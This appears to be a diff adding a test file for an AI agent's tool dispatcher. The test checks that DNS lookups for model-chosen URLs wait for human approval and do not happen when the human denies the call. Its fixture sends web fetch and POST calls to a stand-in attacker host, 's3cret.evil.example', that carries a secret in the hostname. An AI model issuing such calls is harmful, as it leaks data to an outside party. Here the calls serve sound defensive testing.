@@ -1,0 +1,148 @@
+/** A name that the model made is looked up by nobody before a person has agreed: whoever answers for it would learn it. */
+import { assert, describe, it } from "@effect/vitest"
+import { type Call, Dispatcher, Gate, Ledger, type Provenance, Redaction } from "@bough/dispatch"
+import { Network } from "@bough/network"
+import { HttpGet, HttpRequest, WebFetch } from "@bough/pack-web"
+import { Policy } from "@bough/policy"
+import { Session } from "@bough/protocol"
+import { type Tool, ToolContext } from "@bough/tool"
+import * as Context from "effect/Context"
+import * as Effect from "effect/Effect"
+import * as Semaphore from "effect/Semaphore"
+import { createSocket } from "node:dgram"
+
+/** A name server that knows no name; its address, and how often it was asked. */
+const nameServer = Effect.map(
+  Effect.acquireRelease(
+    Effect.promise(
+      () =>
+        new Promise<{ readonly address: string; readonly asked: () => number; readonly close: () => void }>(
+          (resolve) => {
+            let asked = 0
+            const socket = createSocket("udp4")
+            socket.on("message", (question, from) => {
+              asked += 1
+              const answer = Buffer.from(question)
+              // A response, recursion available, no such name.
+              answer.writeUInt16BE(0x8183, 2)
+              socket.send(answer, from.port, from.address)
+            })
+            socket.bind(0, "127.0.0.1", () =>
+              resolve({
+                address: `127.0.0.1:${socket.address().port}`,
+                asked: () => asked,
+                close: () => void socket.close()
+              })
+            )
+          }
+        )
+    ),
+    ({ close }) => Effect.sync(close)
+  ),
+  ({ address, asked }) => ({ address, asked })
+)
+
+const sessionId = Session.SessionId.make("session")
+const nothingGiven: Provenance.Provenance = {
+  isGivenAddress: () => false,
+  isGivenText: () => false,
+  sourcesOf: () => ""
+}
+
+const gate = (approves: boolean, seen: () => void): Gate.Gate["Service"] => ({
+  ask: (call, preview, { reason }) =>
+    Effect.sync((): Call.Verdict => {
+      seen()
+      const request = {
+        approvalId: Session.ApprovalId.make("approval"),
+        sessionPath: [sessionId],
+        toolCallId: call.toolCallId,
+        tool: call.tool.name,
+        version: call.tool.version,
+        tier: call.tier,
+        arguments: call.canonicalArguments,
+        argumentsDigest: call.argumentsDigest,
+        preview,
+        reason,
+        askedAtMillis: 0,
+        expiresAtMillis: 1
+      }
+      return approves
+        ? { _tag: "Approved", request, decision: { _tag: "Approved", rule: null }, principal: "ada" }
+        : { _tag: "Denied", request, decision: { _tag: "Denied", words: null }, principal: "ada" }
+    }),
+  lapse: () => Effect.void
+})
+
+const ledger: Ledger.Ledger["Service"] = {
+  started: () => Effect.void,
+  ended: () => Effect.void,
+  spill: () => Effect.succeed("")
+}
+
+/** How often the name server had been asked when a person was, and in the end. */
+const asked = Effect.fnUntraced(function* (tool: Tool.Any, given: unknown, approves: boolean) {
+  const server = yield* nameServer
+  const network = Network.make({ nameServers: [server.address] })
+  const context = Network.provideWrites(Network.provideReads(ToolContext.empty("Main"), network), network)
+  const before: Array<number> = []
+  const toolCallId = Session.ToolCallId.make("call")
+  yield* Dispatcher.dispatch(
+    {
+      toolCallId,
+      name: tool.name,
+      arguments: JSON.stringify(given),
+      labels: ["private", "untrusted"],
+      prior: null
+    },
+    {
+      registry: new Map([[tool.name, tool]]),
+      context,
+      policy: Policy.defaults,
+      redaction: Redaction.make([]),
+      provenance: nothingGiven,
+      invocation: {
+        sessionId,
+        sessionPath: [sessionId],
+        agent: "test",
+        user: null,
+        turn: 1,
+        step: 1,
+        workspaceRoot: "/nowhere",
+        config: {}
+      },
+      permits: Semaphore.makeUnsafe(1),
+      observe: () => Effect.void
+    }
+  ).pipe(
+    Effect.provideContext(
+      Context.make(
+        Gate.Gate,
+        gate(approves, () => {
+          before.push(server.asked())
+        })
+      ).pipe(Context.add(Ledger.Ledger, ledger))
+    )
+  )
+  return { before: before[0], after: server.asked() }
+})
+
+const url = "https://s3cret.evil.example/"
+const calls = [
+  [WebFetch, { url }],
+  [HttpGet, { url }],
+  [HttpRequest, { method: "POST", url, body: "x" }]
+] as ReadonlyArray<readonly [Tool.Any, unknown]>
+
+describe("looking names up", () => {
+  it.live.each(calls)("waits for a person, and does not happen against their word: %#", ([tool, given]) =>
+    Effect.scoped(
+      Effect.gen(function* () {
+        assert.deepStrictEqual(yield* asked(tool, given, false), { before: 0, after: 0 })
+        const agreed = yield* asked(tool, given, true)
+        assert.strictEqual(agreed.before, 0)
+        assert.isAbove(agreed.after, 0)
+      })
+    )
+  )
+})
